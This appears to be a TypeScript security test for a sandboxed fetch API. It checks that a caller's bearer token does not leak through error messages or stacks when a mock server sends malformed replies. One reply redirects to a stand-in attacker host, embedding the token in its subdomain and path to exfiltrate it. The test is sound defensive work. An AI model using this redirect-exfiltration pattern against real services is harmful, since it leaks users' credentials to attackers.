import type { FetchAttack } from './fetch-attack.ts';

export default {
  name: 'a secret in an error',
  tries: 'To read the secret from the message or the stack of a failure.',
  source: `const seen = [];
for (const kind of ['garbage', 'redirect', 'reset', 'gzip', 'status']) {
  const error = await api.fetch(at('good.test', '/' + kind)).catch((e) => e);
  seen.push(error.error_kind, /s3cr3t/i.test(error.message + error.stack + JSON.stringify(error)));
}
api.state.set('seen', seen);`,
  server: (socket, { line, headers }) => {
    const kind = /\/(\w+) /.exec(line)?.[1] ?? '';
    const token = (headers['x-entry'] ?? '').replace('Bearer ', '');
    const answers: Readonly<Record<string, string>> = {
      garbage: `${token}\r\n\r\n`,
      redirect: `HTTP/1.1 302 ${token}\r\nlocation: https://${token}.evil.test/${token}\r\n\r\n`,
      gzip: `HTTP/1.1 200 OK\r\ncontent-encoding: gzip\r\n\r\n${token}`,
      status: `HTTP/1.1 99 ${token}\r\n\r\n`,
    };
    const answer = answers[kind];
    if (answer === undefined) socket.resetAndDestroy();
    else socket.end(answer);
  },
  expect: {
    returned: {
      seen: [
        ...['http_fetch_failed', false],
        ...['http_fetch_denied', false],
        ...['http_fetch_failed', false],
        ...['http_fetch_failed', false],
        ...['http_fetch_failed', false],
      ],
    },
  },
} satisfies FetchAttack;
